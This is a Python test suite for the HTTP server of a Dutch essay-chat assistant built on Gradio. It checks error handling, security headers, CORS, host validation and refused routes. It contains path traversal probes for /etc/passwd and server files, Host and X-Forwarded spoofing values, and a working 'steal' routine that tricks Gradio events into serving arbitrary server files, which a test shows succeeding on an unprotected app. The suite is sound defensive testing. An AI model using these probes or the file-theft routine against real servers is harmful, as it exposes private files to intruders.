"""The HTTP interface: its answers, its errors, and what it refuses to do."""

from __future__ import annotations

import json
import logging
import re
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from browser.fake_assistant import BUG, SLOW, FakeAssistant
from browser.running import running
from fastapi import FastAPI

from assistant.errors import IndexDamagedError, ServerError
from assistant.intake import MAX_BODY_BYTES
from assistant.server import create_app, listen
from assistant.settings import Settings

ROOT = Path(__file__).parents[1]
SECRET = Path(__file__)  # a file that no visitor may ever see


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    with running(create_app(FakeAssistant())) as url:  # type: ignore[arg-type]
        yield url


@pytest.fixture
def client(site: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=site, timeout=20) as client:
        yield client


def error_of(response: httpx.Response) -> str:
    """The one line of an error, which is all that its body holds."""
    body = response.json()
    assert list(body) == ["code", "error"]
    assert "\n" not in body["error"]
    return str(body["error"])


# --- Errors; those of each path are in tests/test_api.py


@pytest.mark.parametrize("has_length", [True, False], ids=["declared", "streamed"])
@pytest.mark.parametrize("path", ["/api/ask", "/gradio_api/queue/join"])
def test_a_body_over_the_limit_is_refused(client: httpx.Client, path: str, has_length: bool) -> None:
    """No request larger than the limit is read to its end, whether or not it tells its length."""
    body = b'{"question": "' + b"a" * MAX_BODY_BYTES + b'"}'
    content = body if has_length else iter([body[:700_000], body[700_000:]])
    response = client.post(path, content=content, headers={"content-type": "application/json"})
    assert response.status_code == 413
    if has_length or path == "/api/ask":
        assert "larger than" in error_of(response)


def test_a_bug_is_logged_and_not_shown(client: httpx.Client, caplog: pytest.LogCaptureFixture) -> None:
    """An error of ours keeps its traceback in the log; the visitor gets 500 and no detail."""
    with caplog.at_level(logging.ERROR):
        response = client.post("/api/ask", json={"question": BUG})
    assert response.status_code == 500
    assert "secret detail" not in error_of(response)
    assert "secret detail" in caplog.text
    assert "Traceback" in caplog.text


def test_an_index_that_breaks_while_serving_is_the_servers_fault() -> None:
    """An error of ours that is not about the question becomes 503 with its line."""

    class Broken(FakeAssistant):
        def search(self, question: str, top_k: int = 5) -> Any:
            raise IndexDamagedError("The index is damaged. Build it again.")

    with running(create_app(Broken())) as url:  # type: ignore[arg-type]
        response = httpx.post(f"{url}/api/search", json={"question": "a"})
    assert response.status_code == 503
    assert error_of(response) == "The index is damaged. Build it again."


def test_a_slow_question_holds_up_nobody(client: httpx.Client, site: str) -> None:
    """While one question takes its time, others are answered."""
    slow = threading.Thread(target=lambda: httpx.post(f"{site}/api/ask", json={"question": SLOW}, timeout=20))
    slow.start()
    time.sleep(0.2)
    assert client.get("/healthz").status_code == 200
    assert client.post("/api/ask", json={"question": "engagementsmarketing"}).status_code == 200
    assert slow.is_alive(), "the slow question was answered first"
    slow.join()


# --- What is refused, and the headers


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/file/etc/passwd",
        "/gradio_api/file%3D/etc/passwd",
        "//gradio_api/file=/etc/passwd",
        "/gradio_api//file=/etc/passwd",
        "/GRADIO_API/file=/etc/passwd",
        "/gradio_api/./file=/etc/passwd",
        "/gradio_api/heartbeat/../file=/etc/passwd",
        "/gradio_api/heartbeat/%2e%2e/file=/etc/passwd",
        "/assets/..%2f..%2f..%2fetc/passwd",
        "/assets/..%5c..%5cetc/passwd",
        "/page/../server.py",
        "/page/%2e%2e/server.py",
        "/gradio_api/upload",
        "/gradio_api/upload/",
        "/gradio_api/upload_progress",
        "/gradio_api/proxy=https://example.org/",
        "/gradio_api/stream/a/b/1/playlist.m3u8",
        "/gradio_api/runs",
        "/gradio_api/runs/",
        "/gradio_api/run/predict",
        "/gradio_api/call/predict",
        "/gradio_api/component_server",
        "/gradio_api/vibe-code/",
        "/gradio_api/info",
        "/config",
        "/file=/etc/passwd",
        "/file/etc/passwd",
        "/monitoring",
        "/docs",
        "/robots.txt",
        "/theme.css%00",
    ],
)
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_paths_that_the_page_does_not_need_are_not_there(site: str, method: str, path: str) -> None:
    """Files, uploads, proxies, streams and runs of Gradio answer 404, however the path is spelled."""
    status, body = raw_request(site, method, path)
    assert status == 404
    assert b"root:" not in body
    assert json.loads(body)["error"].startswith("There is nothing at")


def raw_request(site: str, method: str, path: str) -> tuple[int, bytes]:
    """Status and body of a request whose path is sent as it is; a client would tidy it."""
    host, port = site.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        lines = [
            f"{method} {path} HTTP/1.1",
            f"Host: {host}",
            "Connection: close",
            "Content-Length: 0",
            "",
            "",
        ]
        connection.sendall("\r\n".join(lines).encode())
        answer = b""
        while data := connection.recv(65_536):
            answer += data
    head, _, body = answer.partition(b"\r\n\r\n")
    return int(head.split()[1]), body


@pytest.mark.parametrize("path", ["/", "/healthz", "/page/chat.css", "/nowhere", "/gradio_api/app_id"])
def test_every_answer_carries_the_headers_that_protect_the_page(client: httpx.Client, path: str) -> None:
    """The policy names no other host and no eval; nothing is sniffed, no address is passed on."""
    headers = client.get(path).headers
    policy = headers["content-security-policy"]
    assert "frame-ancestors 'self'" in policy
    assert "default-src 'none'" in policy
    scripts = re.search(r"script-src ([^;]*)", policy)
    assert scripts
    assert "unsafe" not in scripts[1]
    assert "http" not in policy
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"


def test_other_sites_get_no_leave_to_read(client: httpx.Client) -> None:
    """A foreign origin is never echoed, neither in a preflight nor in an answer."""
    for path in ("/", "/api/ask", "/gradio_api/queue/join"):
        foreign = {"origin": "https://example.org", "access-control-request-method": "POST"}
        for response in (client.options(path, headers=foreign), client.post(path, headers=foreign, json={})):
            assert "access-control-allow-origin" not in response.headers
            assert response.headers.get("access-control-allow-credentials") is None


def test_the_page_is_dutch_and_names_no_other_host(client: httpx.Client) -> None:
    """The page says its language, title and icon itself, and nothing in its markup points elsewhere."""
    html = client.get("/").text
    assert re.search(r'<html[^>]*\slang="nl"', html)
    assert "<title>Vraag het de essays</title>" in html
    markup = re.sub(r"<script.*?</script>", "", html, flags=re.S)
    assert not re.findall(r'(?:href|src|content)="(?:https?:)?//[^"]*"', markup)


def test_the_page_lives_where_it_is_served_whatever_headers_say(client: httpx.Client) -> None:
    """X-Forwarded headers from anybody do not move the page's addresses to another host."""
    told = {
        "x-forwarded-host": "evil.example",
        "x-forwarded-proto": "https",
        "forwarded": "host=evil.example",
    }
    assert "evil.example" not in client.get("/", headers=told).text


def test_a_public_address_is_the_root_of_the_page() -> None:
    """With ASSISTANT_PUBLIC_URL the page asks there, for a proxy that shows it in a folder."""
    settings = replace(Settings(), public_url="https://course.example/chat")
    with running(create_app(FakeAssistant(settings))) as url:  # type: ignore[arg-type]
        html = httpx.get(url).text
    assert '<base href="https://course.example/chat/" />' in html
    assert '"root":"https://course.example/chat"' in html


def test_only_known_names_are_answered_where_hosts_are_given() -> None:
    """A page elsewhere that points its own name at this machine cannot read the chat."""
    with running(create_app(FakeAssistant(), hosts=["127.0.0.1"])) as url:  # type: ignore[arg-type]
        assert httpx.get(f"{url}/healthz").status_code == 200
        response = httpx.get(f"{url}/healthz", headers={"host": "evil.example"})
    assert response.status_code == 400
    assert "evil.example" in error_of(response)


# --- The attack: naming a file of the server as if it had been uploaded


def payloads(path: Path) -> list[Any]:
    """Forms in which Gradio takes a file: bare, and inside a chat message."""
    file = {"path": str(path), "meta": {"_type": "gradio.FileData"}}
    return [file, [file], [{"role": "user", "content": [{"type": "file", "file": file}]}]]


def steal(url: str, path: Path) -> str | None:
    """The text of `path`, where any event of the Gradio app at `url` can be made to give it out."""
    with httpx.Client(base_url=url, timeout=20) as client:
        page = client.get("/").text
        config = json.loads(re.search(r"window\.gradio_config = (\{.*?\});</script>", page)[1])  # type: ignore[index]
        for event in config["dependencies"]:
            for number, payload in enumerate(payloads(path)):
                body = {
                    "data": [payload for _ in event["inputs"]],
                    "fn_index": event["id"],
                    "session_hash": f"thief{event['id']}x{number}",
                }
                if client.post("/gradio_api/queue/join", json=body).status_code != 200:
                    continue
                told = client.get("/gradio_api/queue/data", params={"session_hash": body["session_hash"]}).text
                for found in set(re.findall(r'"path": ?"([^"]+)"', told)) | {str(path)}:
                    for prefix in ("/gradio_api/file=", "/file=", "/gradio_api/file/"):
                        answer = client.get(prefix + quote(found))
                        if answer.status_code == 200 and answer.text == path.read_text("utf-8"):
                            return answer.text
    return None


def test_the_attack_gets_nothing_here(site: str) -> None:
    """No event of the chat hands out a file of the server, and none is copied into a cache for it."""
    assert steal(site, SECRET) is None


@pytest.mark.parametrize("has_launched", [False, True])
def test_the_attack_works_on_a_careless_app_until_it_has_launched(has_launched: bool) -> None:
    """The same attack reads the file where the chat is an event's input, unless `has_launched` is set."""
    import gradio as gr

    with gr.Blocks(analytics_enabled=False) as blocks:
        chat = gr.Chatbot()
        gr.Button().click(lambda messages: messages, chat, chat)
    app = gr.mount_gradio_app(FastAPI(), blocks, path="/")
    blocks.has_launched = has_launched
    with running(app) as url:
        assert steal(url, SECRET) == (None if has_launched else SECRET.read_text("utf-8"))


def test_the_chat_counts_as_launched() -> None:
    """The mounted chat has the flag without which Gradio skips its check of named files."""
    app = create_app(FakeAssistant())  # type: ignore[arg-type]
    mounted: Any = app.routes[-1]
    assert mounted.app.get_blocks().has_launched is True


def test_no_event_takes_the_conversation_from_the_visitor(client: httpx.Client) -> None:
    """Only the typed question comes from the page: the history lives in state that cannot be sent."""
    page = client.get("/").text
    config = json.loads(re.search(r"window\.gradio_config = (\{.*?\});</script>", page)[1])  # type: ignore[index]
    kinds = {component["id"]: component["type"] for component in config["components"]}
    taken = {kinds[number] for event in config["dependencies"] for number in event["inputs"]}
    assert taken == {"textbox", "state"}


# --- Serving


def test_a_taken_port_is_one_clear_line() -> None:
    """A port that something else uses is named before anything slow is loaded."""
    with listen("127.0.0.1", 0) as taken:
        port = taken.getsockname()[1]
        with pytest.raises(ServerError, match=f"127.0.0.1:{port} cannot be served: .*--port {port + 1}"):
            listen("127.0.0.1", port)


@pytest.mark.parametrize(("host", "port"), [("256.1.1.1", 7860), ("127.0.0.1", 70_000)], ids=["host", "port"])
def test_an_impossible_address_is_one_clear_line(host: str, port: int) -> None:
    """A host or a port that does not exist gives our error, not the system's."""
    with pytest.raises(ServerError, match="cannot be served"):
        listen(host, port)


SERVING = """
import socket, sys
sys.path[:0] = [{root!r}, {tests!r}]
look_up, seen = socket.getaddrinfo, []
def record(host, *rest, **options):
    if host not in ("127.0.0.1", "localhost", None):
        seen.append(host)
    return look_up(host, *rest, **options)
socket.getaddrinfo = record
from browser.fake_assistant import FakeAssistant
from assistant.server import serve
serve(FakeAssistant(), "127.0.0.1", 0)
print("asked for:", seen, flush=True)
"""


@pytest.mark.skipif(sys.platform == "win32", reason="Ctrl+C cannot be sent to one process there")
def test_serve_prints_its_address_when_up_and_stops_at_once() -> None:
    """The printed address answers; Ctrl+C ends it in seconds with a tab open; nobody else was called."""
    script = SERVING.format(root=str(ROOT), tests=str(ROOT / "tests"))
    process = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    try:
        assert process.stdout
        line = process.stdout.readline()
        found = re.fullmatch(r"Open (http://127\.0\.0\.1:\d+) in the browser \(Ctrl\+C stops it\)\n", line)
        assert found, line
        assert httpx.get(f"{found[1]}/healthz").status_code == 200
        with httpx.stream("GET", f"{found[1]}/gradio_api/heartbeat/tab", timeout=20):
            process.send_signal(signal.SIGINT)
            assert process.wait(15) == 0
        assert process.stdout.read() == "asked for: []\n"
    finally:
        process.kill()
